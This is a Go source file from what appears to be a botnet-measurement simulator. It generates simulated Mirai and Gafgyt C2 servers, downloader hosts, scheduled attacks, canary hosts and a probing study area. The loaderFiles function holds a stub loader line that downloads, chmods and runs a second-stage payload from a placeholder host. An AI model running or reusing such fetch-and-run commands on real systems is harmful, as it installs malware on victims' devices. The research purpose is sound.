package world

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/rand"
	"net/netip"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/c2"
	"malnet/internal/detrand"
	"malnet/internal/geo"
	"malnet/internal/intel"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

// Generate builds a complete world from the configuration.
func Generate(cfg Config) *World {
	if cfg.TotalSamples <= 0 {
		scen := cfg.Scenario
		cfg = DefaultConfig(cfg.Seed)
		cfg.Scenario = scen
	}
	cfg.Scenario.Defaults()
	clock := simclock.New(StudyStart().Add(-24 * time.Hour))
	netCfg := simnet.DefaultConfig()
	netCfg.Seed = cfg.Seed
	n := simnet.New(clock, netCfg)
	rng := rand.New(rand.NewSource(cfg.Seed))

	reg := geo.StandardRegistry(cfg.TotalASes-1, rng)
	// The Czech hosting AS §5's attack issuers need (the standard
	// registry carries no CZ member).
	reg.Register(&geo.AS{
		ASN: czASN, Name: "WEDOS Internet", Country: "CZ",
		Type: geo.TypeHosting, AntiDDoS: true,
		Prefixes: []netip.Prefix{netip.MustParsePrefix("46.28.0.0/16")},
	})

	ps := generatePopulation(cfg, reg, rng)
	attacks := ps.planAttacks(reg)
	// Scenario packs append to the finished base population on their
	// own RNG streams: the base world is byte-identical with packs on
	// or off. A bad scenario config is a programming error here — the
	// CLI and StudyConfig.Validate reject it before generation.
	scenAttacks, err := ps.generateScenarios(reg)
	if err != nil {
		panic("world: " + err.Error())
	}
	attacks = append(attacks, scenAttacks...)

	w := &World{
		Cfg:     cfg,
		Clock:   clock,
		Net:     n,
		Geo:     reg,
		Intel:   intel.NewService(cfg.Seed),
		Samples: ps.samples,
		C2s:     ps.c2s,
		Servers: map[string]*c2.Server{},
		DNSZone: ps.dns,
		Attacks: attacks,
	}

	// Threat-intelligence registrations: the ecosystem learns about
	// each C2 relative to the first public binary referring to it.
	for _, cs := range ps.c2s {
		if len(cs.SampleIdx) == 0 {
			continue
		}
		host, kind := cs.IP.String(), intel.KindIP
		if cs.IsDNS {
			host, kind = cs.Domain, intel.KindDNS
		}
		w.Intel.RegisterC2(host, kind, cs.FirstRef)
	}

	// Materialize the C2 servers.
	for _, cs := range ps.order {
		w.installServer(cs)
	}

	// Downloader-only hosts (the 12 addresses §3.1 finds that are
	// not C2s).
	for _, addr := range ps.aloneDownloaders {
		ap, err := parseAddr(addr)
		if err != nil {
			continue
		}
		host := n.AddHost(ap.IP)
		c2.ServeDownloader(host, ap.Port, loaderFiles())
	}

	// Schedule ground-truth attacks.
	for _, plan := range attacks {
		srv := w.Servers[plan.C2Address]
		if srv == nil {
			continue
		}
		srv.ScheduleAttackEvery(plan.When, plan.Command, plan.Retries, 15*time.Minute)
	}

	w.plantProbeWorld(ps)
	w.installCanaries()
	return w
}

// installCanaries stands up the benign well-known hosts the
// anti-sandbox gates check (§6f): two canary names resolving to
// distinct addresses in Google's space, each answering HTTP.
func (w *World) installCanaries() {
	google := w.Geo.ByASN(15169)
	for i, name := range []string{"www.google.com", "www.bing.com"} {
		ip := google.AddrAt(9000 + i)
		w.DNSZone[name] = ip
		host := w.Net.AddHost(ip)
		host.ServeBanner(80, "HTTP/1.1 200 OK\r\nServer: gws\r\nContent-Length: 0\r\n\r\n")
	}
}

// parseAddr parses "ip:port".
func parseAddr(s string) (simnet.Addr, error) {
	var a, b, c, d int
	var port int
	if _, err := fmt.Sscanf(s, "%d.%d.%d.%d:%d", &a, &b, &c, &d, &port); err != nil {
		return simnet.Addr{}, err
	}
	return simnet.Addr{
		IP:   netip.AddrFrom4([4]byte{byte(a), byte(b), byte(c), byte(d)}),
		Port: uint16(port),
	}, nil
}

// loaderFiles returns the downloadable first-stage payloads.
func loaderFiles() map[string][]byte {
	files := map[string][]byte{}
	for _, ln := range loaderCatalog {
		files["/"+ln] = []byte("#!/bin/sh\n# loader stage one\nwget http://next/stage2; chmod 777 stage2; ./stage2\n")
	}
	return files
}

var loaderCatalog = []string{"t8UsA2.sh", "Tsunamix6", "ddns.sh", "8UsA.sh", "wget.sh", "zyxel.sh", "jaws.sh", "bot.sh"}

// installServer creates the protocol server for a C2 spec.
func (w *World) installServer(cs *C2Spec) {
	scfg := c2.ServerConfig{
		Family: cs.Family,
		Addr:   simnet.Addr{IP: cs.IP, Port: cs.Port},
		Birth:  cs.Birth,
		Death:  cs.Death,
	}
	if cs.Elusive {
		scfg.Duty = c2.DefaultDutyCycle(int64(detrand.Hash64(w.Cfg.Seed, "duty", cs.Address)))
	} else {
		// Ordinary C2s are reachable whenever alive; their
		// short lives carry the ephemerality (§3.2). The harsh
		// duty cycle belongs to the probed D-PC2 population.
		scfg.AlwaysOn = true
	}
	if cs.Downloader {
		scfg.Downloader = loaderFiles()
	}
	if cs.RelayUpstream != "" {
		if up := w.C2s[cs.RelayUpstream]; up != nil {
			scfg.Relay = &c2.RelayConfig{
				Upstream: simnet.Addr{IP: up.IP, Port: up.Port},
			}
		}
	}
	w.Servers[cs.Address] = c2.NewServer(w.Net, scfg)
}

// plantProbeWorld sets up the D-PC2 study area: six /24 subnets
// inside top-hosting address space, seven elusive C2 servers on the
// Table 5 ports, and a handful of well-known-banner hosts the
// ethics filter must exclude.
func (w *World) plantProbeWorld(ps *populationState) {
	w.ProbeStart = isoWeekStart(2021, 45)
	bases := []string{"60.0.200.0/24", "60.2.200.0/24", "60.3.200.0/24", "60.5.200.0/24", "60.7.200.0/24", "60.9.200.0/24"}
	for _, b := range bases {
		w.ProbeSubnets = append(w.ProbeSubnets, simnet.SubnetFrom(b))
	}
	rng := rand.New(rand.NewSource(w.Cfg.Seed ^ 0x9c2))
	probePorts := []uint16{1312, 666, 5555, 3074, 81, 6969, 1014}
	families := []string{"mirai", "mirai", "mirai", "mirai", "gafgyt", "gafgyt", "gafgyt"}
	for i := 0; i < 7; i++ {
		subnet := w.ProbeSubnets[i%len(w.ProbeSubnets)]
		ip := subnet.HostAt(20 + i*17)
		port := probePorts[i%len(probePorts)]
		cs := &C2Spec{
			Address: fmt.Sprintf("%s:%d", ip, port),
			IP:      ip, Port: port,
			Family:  families[i],
			Variant: "v1",
			Birth:   w.ProbeStart.Add(-24 * time.Hour),
			Death:   w.ProbeStart.Add(16 * 24 * time.Hour),
			Elusive: true,
		}
		if as, ok := w.Geo.Lookup(ip); ok {
			cs.ASN = as.ASN
		}
		w.C2s[cs.Address] = cs
		w.installServer(cs)
		w.PlantedElusive++
		_ = rng
	}
	// Banner hosts: ordinary web/ssh services inside the subnets.
	banners := []string{
		"HTTP/1.1 200 OK\r\nServer: Apache/2.4.41\r\n\r\n",
		"HTTP/1.1 200 OK\r\nServer: nginx/1.18.0\r\n\r\n",
		"SSH-2.0-OpenSSH_7.4\r\n",
	}
	for i := 0; i < 9; i++ {
		subnet := w.ProbeSubnets[i%len(w.ProbeSubnets)]
		host := w.Net.AddHost(subnet.HostAt(100 + i*11))
		host.ServeBanner(probePorts[i%len(probePorts)], banners[i%len(banners)])
	}
}

// Binary returns the encoded bytes of a sample, generating them on
// first use.
func (s *SampleSpec) Binary() ([]byte, error) {
	if s.raw != nil {
		return s.raw, nil
	}
	if s.ForeignArch != binfmt.ArchMIPS32BE {
		raw, err := binfmt.EncodeForeign(s.ForeignArch, rand.New(rand.NewSource(s.Seed)))
		if err != nil {
			return nil, err
		}
		s.raw = raw
		bin := sha256Hex(raw)
		s.sha = bin
		return raw, nil
	}
	cfg := binfmt.BotConfig{
		Family:         s.Family,
		Variant:        s.Variant,
		C2Addrs:        s.C2Refs,
		P2P:            s.P2P,
		ScanPorts:      s.ScanPorts,
		ExploitIDs:     s.ExploitIDs,
		LoaderName:     s.LoaderName,
		DownloaderAddr: s.DownloaderAddr,
		Evasion:        s.Evasion,
	}
	raw, err := binfmt.Encode(cfg, rand.New(rand.NewSource(s.Seed)), nil)
	if err != nil {
		return nil, fmt.Errorf("world: encoding sample %d: %w", s.Index, err)
	}
	s.raw = raw
	bin, err := binfmt.Parse(raw)
	if err != nil {
		return nil, err
	}
	s.sha = bin.SHA256
	return raw, nil
}

// sha256Hex hashes raw bytes (foreign decoys bypass binfmt.Parse).
func sha256Hex(raw []byte) string {
	sum := sha256.Sum256(raw)
	return hex.EncodeToString(sum[:])
}

// SHA256 returns the sample's hash, encoding the binary if needed.
func (s *SampleSpec) SHA256() (string, error) {
	if s.sha == "" {
		if _, err := s.Binary(); err != nil {
			return "", err
		}
	}
	return s.sha, nil
}

// FeedOn returns the samples published on a given day.
func (w *World) FeedOn(day time.Time) []*SampleSpec {
	var out []*SampleSpec
	dk := dayKey(day)
	for _, s := range w.Samples {
		if dayKey(s.Date) == dk {
			out = append(out, s)
		}
	}
	return out
}
